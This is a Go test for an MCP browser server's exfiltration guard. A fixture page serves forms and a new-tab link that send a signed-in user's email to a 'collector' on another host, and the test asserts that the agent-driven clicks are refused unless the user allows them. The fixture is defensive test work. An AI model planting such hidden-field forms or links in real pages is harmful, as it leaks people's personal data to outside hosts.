package mcpserver

import (
	"fmt"
	"net/http"
	"net/http/httptest"
	"slices"
	"strings"
	"sync"
	"testing"

	"github.com/modelcontextprotocol/go-sdk/mcp"

	"vroom/internal/modeltest"
)

// TestMCPEngineExfil: a tab the client drives gets the exfiltration guard
// an agent's tab gets, and leaving its sites is decided there, before the
// request goes. The page shows the person's email; one form sends it to
// another host (localhost, off the tab's site 127.0.0.1), another sends
// only a search. Without elicitation both are refused and the other host
// is never reached. A user who is asked sees the email named on the first
// (and declines) and only the leaving on the second (and allows it once):
// exactly that one request arrives, and the tab is on the other host. A
// link that opens a new tab with the email is refused before the click.
func TestMCPEngineExfil(t *testing.T) {
	carefulUser := func(r *mcp.ElicitRequest) *mcp.ElicitResult {
		if strings.Contains(r.Params.Message, "alice") || strings.Contains(r.Params.Message, "email") {
			return &mcp.ElicitResult{Action: "decline"}
		}
		return answer("accept", answerAllowOnce)(r)
	}
	for _, c := range []struct {
		name   string
		elicit func(*mcp.ElicitRequest) *mcp.ElicitResult
		want   []string
	}{{"no elicitation", nil, nil}, {"careful user", carefulUser, []string{"q=weather"}}} {
		t.Run(c.name, func(t *testing.T) {
			t.Parallel()
			got, page := exfilSites(t)
			h := newMCPHarness(t)
			cs := h.connect(t, "stdio", c.elicit)
			var opened pageResult
			callTool(t, cs, "open", map[string]any{"url": page + "/account"}, &opened)
			cont, forecast := modeltest.Ref(opened.Page, "button", "Continue"), modeltest.Ref(opened.Page, "button", "Forecast")
			if cont == "" || forecast == "" {
				t.Fatalf("open: %s", opened.Page)
			}
			var clicked actResult
			res := callTool(t, cs, "click", map[string]any{"tab": opened.Tab, "ref": cont}, &clicked)
			refusal := ErrNoElicitation.Error()
			if c.elicit != nil {
				refusal = "denied by the user"
			}
			if text := contentText(res); !res.IsError || !strings.Contains(clicked.Denied, "your email") ||
				!strings.Contains(clicked.Denied, "localhost") || !strings.Contains(text, refusal) {
				t.Fatalf("the email sent off the site was not refused: %+v\n%s", clicked, text)
			}
			// A link into a new tab is outside the tab's guard: checked
			// before the click.
			verify := modeltest.Ref(opened.Page, "link", "Verify")
			res = callTool(t, cs, "click", map[string]any{"tab": opened.Tab, "ref": verify}, &clicked)
			if text := contentText(res); !res.IsError || !strings.Contains(text, "your email") || !strings.Contains(text, refusal) {
				t.Fatalf("the email in a new tab's link was not refused: %s", text)
			}
			if n := got(); len(n) != 0 {
				t.Fatalf("the other host was reached: %q", n)
			}
			res = callTool(t, cs, "click", map[string]any{"tab": opened.Tab, "ref": forecast}, &clicked)
			text := contentText(res)
			if c.elicit == nil {
				if !res.IsError || !strings.Contains(text, "leaves") || strings.Contains(text, "email") {
					t.Fatalf("leaving the site without elicitation: %s", text)
				}
			} else if res.IsError || !clicked.Navigated || !strings.HasPrefix(clicked.URL, "http://localhost") {
				t.Fatalf("a form the user let go: %s (%+v)", text, clicked)
			}
			if n := got(); !slices.Equal(n, c.want) {
				t.Fatalf("the other host got %q, want %q", n, c.want)
			}
			h.mu.Lock()
			asked := slices.Clone(h.elicited)
			h.mu.Unlock()
			if c.elicit != nil && (len(asked) != 3 || strings.Contains(asked[2], "alice")) {
				t.Fatalf("the user was asked %q", asked)
			}
		})
	}
}

// exfilSites serves the account page and, on another host, the collector;
// got lists the queries the collector received.
func exfilSites(t *testing.T) (got func() []string, page string) {
	var mu sync.Mutex
	var queries []string
	collector := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		if r.URL.Path == "/collect" { // not the browser's favicon request
			mu.Lock()
			queries = append(queries, r.URL.RawQuery)
			mu.Unlock()
		}
		fmt.Fprint(w, "<title>Collected</title>thanks")
	}))
	t.Cleanup(collector.Close)
	off := strings.Replace(collector.URL, "127.0.0.1", "localhost", 1) + "/collect"
	srv := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		fmt.Fprintf(w, `<title>Account</title><p>Signed in as alice.liddell@example.com</p>
<form action="%[1]s"><input type="hidden" name="who" value="alice.liddell@example.com"><button>Continue</button></form>
<form action="%[1]s"><input type="hidden" name="q" value="weather"><button>Forecast</button></form>
<a href="%[1]s?who=alice.liddell%%40example.com" target="_blank">Verify</a>`, off)
	}))
	t.Cleanup(srv.Close)
	return func() []string {
		mu.Lock()
		defer mu.Unlock()
		return slices.Clone(queries)
	}, srv.URL
}
